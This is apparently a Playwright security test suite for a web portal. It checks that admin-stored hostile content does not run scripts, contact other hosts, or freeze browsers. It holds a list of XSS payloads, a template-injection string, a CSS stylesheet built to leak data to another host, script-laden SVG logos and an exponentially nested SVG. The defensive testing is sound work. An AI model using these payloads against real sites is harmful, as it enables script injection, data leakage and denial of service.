// Hostile content stored by an admin is shown, but runs no script, requests no other host, and cannot block the portal.
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { Page } from "@playwright/test";
import { accountWithRole } from "../support/demo.ts";
import { demoTemplate } from "../support/demo-data.ts";
import { expect, expectPageErrors, POLICY_VIOLATION, submitLoginForm, test } from "../support/journey.ts";
import { openLibrary } from "../support/library.ts";
import { type Portal, runCommand, startPortal } from "../support/portal.ts";
import { writeSettings } from "../support/write-settings.ts";

/** Each would call `alert` if it ran. */
const PAYLOADS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)></svg>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
  "<math><mtext><table><mglyph><style><!--</style><img src=x onerror=alert(1)>",
  "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
  "<iframe src='javascript:alert(1)'></iframe>",
  "<object data='javascript:alert(1)'></object>",
  "<embed src='javascript:alert(1)'>",
  "<details open ontoggle=alert(1)><summary>x</summary></details>",
  "<video><source onerror=alert(1)></video>",
  "<input autofocus onfocus=alert(1)>",
  "<body onload=alert(1)>",
  "<form action='javascript:alert(1)'><button id=go>x</button></form>",
  "<a id=bad href='javascript:alert(1)'>bad link</a>",
  "<a id=tab href='java\tscript:alert(1)'>bad link</a>",
  "<base href='https://example.invalid/'>",
  "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
  "<link rel=stylesheet href='data:text/css,*{}'>",
  "<template><img src=x onerror=alert(1)></template>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
  "<p style='background:url(javascript:alert(1))'>x</p>",
  "<div is=x onclick=alert(1) class=trap>click me</div>",
];
const TEXT = "<img src=x onerror=alert(1)>{{constructor.constructor('alert(1)')()}}";

/** Selectors of links and attributes that run scripts. */
const ACTIVE_CONTENT = '[href*="script:" i], [href^="data:" i], [onerror], [onload], [onclick], [style*="javascript"]';

/** A stylesheet that requests another host in every way CSS allows. */
const exfiltratingCss = (other: string) => `
  @import url("${other}/import");
  html { outline: 7px solid rgb(1, 2, 3); background-image: image-set("${other}/set" 1x), url("${other}/url"); }
  @font-face { font-family: spy; src: url("${other}/font"); }
  body { font-family: spy; cursor: url("${other}/cursor"), auto; list-style: url("${other}/list"); }
  a[href^="#"] { background: url("${other}/attribute"); }
  input[value^="a"] { border-image: url("${other}/value"); }
  } * { mask-image: url("${other}/outside"); } {`;

const LOGO = `<svg xmlns="http://www.w3.org/2000/svg" width="200" height="60" onload="alert(1)">
  <script>alert(1)</script><foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="alert(1)"/></foreignObject>
  <rect width="200" height="60" fill="teal"/></svg>`;

/** Nested references that expand to 10⁹ shapes. */
const EXPONENTIAL_SVG = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><defs><g id="u0"><path d="M0 0h9v9z"/></g>${Array.from(
  { length: 9 },
  (_, at) => `<g id="u${at + 1}">${`<use href="#u${at}"/>`.repeat(10)}</g>`,
).join("")}</defs><use href="#u9"/></svg>`;

const SCRIPT = "self.ran = true; self.postMessage?.(1, '*')";
/** Imported files that would run, or style the page, if they were loaded as scripts or stylesheets. */
const ORIGINALS = {
  "hostile.js": SCRIPT,
  "hostile.mjs": `${SCRIPT}; export default 1`,
  "hostile.txt": `${SCRIPT} // as text`,
  "hostile.gif": `GIF89a=1; ${SCRIPT}`,
  "hostile.css": "html { outline: 7px solid red }",
  "hostile.html": `<!doctype html><script>${SCRIPT}</script>`,
  "hostile.svg": `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script>${SCRIPT}</script></svg>`,
};

const external = (link: string) => ({ linkDirection: "External", link, column: "Left" });

test.describe("what an admin stored with bad intent @desktop", () => {
  let portal: Portal;
  let other: Server;
  const calls: string[] = [];
  const dialogs: string[] = [];

  test.beforeAll(async () => {
    other = createServer((request, response) => {
      calls.push(request.url ?? "");
      response.end();
    });
    await new Promise<void>((resolve) => other.listen(0, "127.0.0.1", resolve));
    const otherHost = `http://127.0.0.1:${(other.address() as AddressInfo).port}`;
    portal = await startPortal({ template: demoTemplate });
    const stored = (await (await fetch(`${portal.address}/api/config/global`)).json()) as Record<string, object>;
    writeSettings(
      portal,
      [
        [
          "global",
          "",
          {
            ...stored,
            global: { ...stored.global, website_title: TEXT },
            footer: ["javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "java\nscript:alert(1)"].map(
              (link, position) => ({
                translation: `Link ${position}`,
                is_linkable: true,
                position,
                languages: { de: external(link), en: external(link) },
              }),
            ),
            login: { ...stored.login, register: { show_button: true, links: { de: external("javascript:alert(1)") } } },
          },
        ],
        [
          "translations",
          "de",
          { global: { footer: { label: TEXT } }, views: { dashboard: { hero: { header: TEXT } } } },
        ],
        [
          "custom_html",
          "de",
          { pages: PAYLOADS.map((html, n) => ({ key: `page-${n}`, title: TEXT, html: `${html}<p>end ${n}</p>` })) },
        ],
      ],
      [
        ["style", "text/css", exfiltratingCss(otherHost)],
        ["dashboardLogo", "image/svg+xml", LOGO],
        ["searchLogo", "image/svg+xml", LOGO],
      ],
    );
  });
  test.afterAll(async () => {
    await portal.stop();
    other.close();
  });

  async function open(page: Page, path: string): Promise<void> {
    await page.goto(portal.address + path);
    await page.waitForLoadState("networkidle");
  }

  test("T7 does not run, sends no request, and can be switched off", { tag: "@core" }, async ({ page, pageErrors }) => {
    page.on("dialog", async (dialog) => {
      dialogs.push(dialog.message());
      await dialog.dismiss();
    });
    await test.step("on every kind of page", async () => {
      for (const path of ["/#/", "/#/search/*", "/#/login", "/#/logout"]) await open(page, path);
      await expect(page.getByRole("contentinfo").getByText("Link 0")).toBeVisible();
      await expect(page.locator(ACTIVE_CONTENT)).toHaveCount(0);
    });
    await test.step("on pages of its own", async () => {
      for (const n of PAYLOADS.keys()) {
        await open(page, `/#/custom/page-${n}`);
        const article = page.getByRole("article");
        await expect(article.getByRole("heading", { level: 1 })).toHaveText(TEXT);
        await expect(
          article.locator(`${ACTIVE_CONTENT}, script, iframe, object, embed, form, base, meta, link, style`),
        ).toHaveCount(0);
        for (const trap of await article.getByText(/bad link|click me/).all()) await trap.click();
        await expect(page).toHaveURL(new RegExp(`#/custom/page-${n}$`));
      }
    });
    await test.step("in files opened directly", async () => {
      for (const file of ["dashboardLogo", "style"]) await open(page, `/api/config/${file}`);
    });
    await test.step("the stylesheet applies, unless the address disables it", async () => {
      await open(page, "/#/");
      await expect(page.locator("html")).toHaveCSS("outline", "rgb(1, 2, 3) solid 7px");
      await open(page, "/?safe=1#/");
      await expect(page.locator("html")).not.toHaveCSS("outline", "rgb(1, 2, 3) solid 7px");
    });
    expect(dialogs).toEqual([]);
    expect(calls).toEqual([]);
    // The browser reports what the policy blocked, as expected.
    expectPageErrors(pageErrors, POLICY_VIOLATION);
  });

  test("T30 ?safe leaves out a logo that freezes browsers, also in the administration", async ({ page }) => {
    writeSettings(
      portal,
      [],
      ["dashboardLogo", "searchLogo", "loginLogo", "dashboardHero", "loginHero", "favicon"].map((name) => [
        name,
        "image/svg+xml",
        EXPONENTIAL_SVG,
      ]),
    );
    const asked: string[] = [];
    page.on("request", (request) => asked.push(new URL(request.url()).pathname));
    await open(page, "/?safe#/login");
    await submitLoginForm(page, accountWithRole("portalAdmin"));
    await expect(page).not.toHaveURL(/#\/login/);
    for (const path of ["/?safe#/", "/?safe#/admin/appearance"]) await open(page, path);
    await page.getByRole("button", { name: /^(An einzelnen Stellen anders|Different in single places)/ }).click();
    await expect(page.getByText(/\?safe in der Adresse steht|\?safe stands in the address/).first()).toBeVisible();
    // The stylesheet's editor loads it as text.
    expect(asked.filter((path) => /config\/(\w+(Logo|Hero)|favicon|custom_font)$/.test(path))).toEqual([]);
  });

  test("does not run from an original that a page of the portal loads as a script", async ({ page, pageErrors }) => {
    const folder = mkdtempSync(join(tmpdir(), "vitrine-hostile-"));
    try {
      for (const [name, text] of Object.entries(ORIGINALS)) writeFileSync(join(folder, name), text);
      expect((await runCommand(portal.dataFolder, ["import", folder])).code).toBe(0);
      const { client, assets } = await openLibrary(portal.address, accountWithRole("assetUser"));
      await expect.poll(async () => (await assets("hostile")).length).toBe(Object.keys(ORIGINALS).length);
      const urls = await Promise.all(
        (await assets("hostile")).map(async ({ id }) => (await client.call("download.single", { query: { id } })).url),
      );
      // A page of the same origin without a content security policy.
      await page.goto(`${portal.address}/livez`);
      const loaded = await page.evaluate(async (all) => {
        const found: string[] = [];
        const load = (url: string, name: string, input: Record<string, string>) =>
          new Promise<void>((resolve) => {
            const element = document.createElement(name);
            element.onload = () => resolve(void found.push(`${name} ${url}`));
            element.onerror = () => resolve();
            Object.assign(element, input);
            document.head.append(element);
          });
        for (const url of all) {
          await load(url, "script", { src: url });
          await load(url, "script", { src: url, type: "module" });
          await load(url, "link", { rel: "stylesheet", href: url });
          const worker = new Worker(url);
          await new Promise((resolve) => {
            worker.onerror = resolve;
            worker.onmessage = () => resolve(found.push(`worker ${url}`));
          });
          worker.terminate();
        }
        return {
          found,
          styled: getComputedStyle(document.documentElement).outlineWidth === "7px",
          ran: "ran" in window,
        };
      }, urls);
      expect(loaded).toEqual({ found: [], styled: false, ran: false });
    } finally {
      rmSync(folder, { recursive: true });
    }
    // The browser reports what it blocked.
    expectPageErrors(pageErrors, POLICY_VIOLATION);
  });
});
